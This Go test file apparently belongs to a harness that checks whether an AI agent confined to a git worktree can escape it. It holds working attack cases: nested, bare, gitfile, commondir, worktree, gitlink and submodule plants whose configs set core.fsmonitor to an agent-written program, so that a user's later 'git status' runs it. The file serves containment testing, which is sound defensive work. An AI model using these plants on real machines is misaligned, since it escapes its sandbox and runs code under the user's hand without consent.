package attack

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"time"
)

// Repositories inside the worktree: git goes into them, or the user does.

func init() { lazily(addNested) }

func addNested() {
	const claim = "git, run outside in or above a nested repository, runs nothing of the agent's"
	register(
		Attack{ID: "nested-git-new", Claim: claim, What: "turn a directory of the worktree into a repository with a program in its config",
			Try: func(l Layout) error { return evilRepository(l, "src") }, Judge: gitIn("src")},
		Attack{ID: "bare-plant", Claim: claim, What: "make a directory look like a bare repository with a program in its config", Try: func(l Layout) error {
			return errors.Join(evilGitDir(l, l.Worktree+"/data"), appendTo("data/config", []byte("[core]\n\tworktree = "+l.Worktree+"/src\n")))
		}, Judge: gitIn("data")},
		Attack{ID: "gitfile-plant", Claim: claim, What: "put a .git file that names a git directory of its own into a directory", Try: func(l Layout) error {
			return errors.Join(evilGitDir(l, l.Worktree+"/.evil"), os.WriteFile("src/.git", []byte("gitdir: ../.evil\n"), 0o644))
		}, Judge: gitIn("src")},
		Attack{ID: "commondir-plant", Claim: claim, What: "make a repository that takes its config from a directory which looks like none", Try: func(l Layout) error {
			return errors.Join(shell("git init -q --template= dep; mkdir -p cfg/objects cfg/refs; echo ../../cfg > dep/.git/commondir"), monitor(l), appendTo("cfg/config", evilConfig(l)))
		}, Judge: gitIn("dep")},
		Attack{ID: "worktree-plant", Claim: claim, What: "add a worktree below and put a program into the config that it leads to", Try: func(l Layout) error {
			return errors.Join(shell("git worktree add -q below -b below"), monitor(l), shell("git config core.fsmonitor "+l.Worktree+"/.mon"))
		}, Judge: gitIn("below")},
		Attack{ID: "gitlink-plant", Claim: claim, What: "plant a repository and a gitlink over it, so that git status above goes in", Try: func(l Layout) error {
			if err := evilRepository(l, "dep"); err != nil {
				return err
			}
			return shell("cd dep && git -c core.fsmonitor= -c user.name=a -c user.email=a@b commit -qm x && cd .. && git -c core.fsmonitor= add dep 2>/dev/null")
		}, Judge: gitIn("dep")},
		Attack{ID: "gitlink-nested", Claim: claim, What: "rewrite the config of a repository that was there, and plant a gitlink over it",
			Setup: nestedRepository, Try: func(l Layout) error {
				if err := errors.Join(monitor(l), appendTo("nested/.git/config", evilConfig(l))); err != nil {
					return err
				}
				return shell("git -c core.fsmonitor= add nested")
			}, Judge: gitIn("nested")},
		Attack{ID: "nested-git-swap", Claim: claim, What: "rename the directory of a nested repository away and put its own there",
			Setup: nestedRepository, Try: func(l Layout) error {
				if err := os.Rename("nested", "nested.old"); err != nil {
					return err
				}
				return evilRepository(l, "nested")
			}, Judge: gitIn("nested")},
	)
	register(known(claim)...)
}

// gitIn judges by git status in the worktree and in a directory of it.
func gitIn(dir string) func(*Fixture) Finding {
	return func(f *Fixture) Finding {
		if saw := f.userRuns(f.Worktree, "status"); saw.Through {
			return saw
		}
		return f.userRuns(filepath.Join(f.Worktree, dir), "status")
	}
}

// known are repositories that git knows of: submodules, and worktrees below.
func known(claim string) []Attack {
	return []Attack{
		{ID: "submodule-gitfile", Claim: claim, What: "rewrite the .git file of a submodule",
			Setup: func(f *Fixture) error { return submodule(f, true) }, Try: func(l Layout) error {
				if err := evilGitDir(l, l.Worktree+"/.evil"); err != nil {
					return err
				}
				pointer := []byte("gitdir: " + l.Worktree + "/.evil\n")
				return anyOf(os.WriteFile("sub/.git", pointer, 0o644),
					errors.Join(os.WriteFile("sub/.new", pointer, 0o644), os.Rename("sub/.new", "sub/.git")))
			}, Judge: gitIn("sub")},
		{ID: "submodule-empty", Claim: claim, What: "fill the empty directory of a submodule that was never checked out with a repository of its own",
			Setup: func(f *Fixture) error { return submodule(f, false) },
			Try:   func(l Layout) error { return evilRepository(l, "sub") }, Judge: gitIn("sub")},
		{ID: "submodule-module", Claim: claim, What: "write the config of a submodule's git directory in the shared .git",
			Setup: func(f *Fixture) error { return submodule(f, true) }, Try: func(l Layout) error {
				return errors.Join(monitor(l), appendTo(l.GitDir+"/modules/sub/config", evilConfig(l)))
			}, Judge: gitIn("sub")},
		{ID: "sibling-nested", Claim: claim, What: "write a worktree that lies below this one, and its .git file",
			Setup: func(f *Fixture) error {
				return f.sh(f.Repo, "git worktree add -q ../proj-lane/below -b below")
			}, Try: repointBelow, Judge: func(f *Fixture) Finding {
				if holds(f.Worktree+"/below/main.go", "pwned") {
					return through("wrote a file of the worktree below")
				}
				return gitIn("below")(f)
			}},
		{ID: "sibling-nested-late", Claim: claim, What: "rewrite the .git file of a worktree that is added below while the lane runs",
			Beside: func(f *Fixture, stop <-chan struct{}) {
				if f.awaitReady(stop) {
					_ = f.sh(f.Repo, "git worktree add -q ../proj-lane/below -b below") // the inside waits for it
					f.relook()
				}
			}, Try: func(l Layout) error {
				if err := l.ready(); err != nil {
					return err
				}
				await(5*time.Second, func() bool { return exists("below/main.go") })
				time.Sleep(300 * time.Millisecond) // git is done
				return repointBelow(l)
			}, Judge: gitIn("below")},
	}
}

// evilRepository makes a repository at dir whose config runs a program.
func evilRepository(l Layout, dir string) error {
	c := exec.Command("/bin/sh", "-euc", `mkdir -p "$1"; cd "$1"; git init -q --template= .; echo x > x; git add x`, "sh", dir)
	if out, err := c.CombinedOutput(); err != nil {
		return errors.New(short(string(out)))
	}
	return errors.Join(monitor(l), appendTo(dir+"/.git/config", evilConfig(l)))
}

func nestedRepository(f *Fixture) error {
	return f.sh(f.Worktree, "git init -q --template= nested; cd nested; echo x > x; git add x; git commit -qm x")
}

// submodule commits one to the lane's branch; filled says whether it is
// checked out, which git worktree add leaves undone.
func submodule(f *Fixture, filled bool) error {
	err := f.sh(f.Worktree, `git init -q --template= ../dep; cd ../dep; echo x > x; git add x; git commit -qm x
cd ../proj-lane; git -c protocol.file.allow=always submodule --quiet add ../dep sub; git commit -qm sub`)
	if err != nil || filled {
		return err
	}
	return f.sh(f.Worktree, "git submodule --quiet deinit -f sub; rm -rf "+f.GitDir+"/modules")
}

func repointBelow(l Layout) error {
	err := evilGitDir(l, l.Worktree+"/.evil")
	if err != nil {
		return err
	}
	return anyOf(os.WriteFile("below/.git", []byte("gitdir: "+l.Worktree+"/.evil\n"), 0o644),
		os.WriteFile("below/main.go", []byte("package pwned\n"), 0o644))
}

// awaitReady waits for the inside's Layout.ready.
func (f *Fixture) awaitReady(stop <-chan struct{}) bool {
	for {
		select {
		case <-stop:
			return false
		case <-time.After(5 * time.Millisecond):
			if exists(filepath.Join(f.Worktree, readyFile)) {
				return true
			}
		}
	}
}
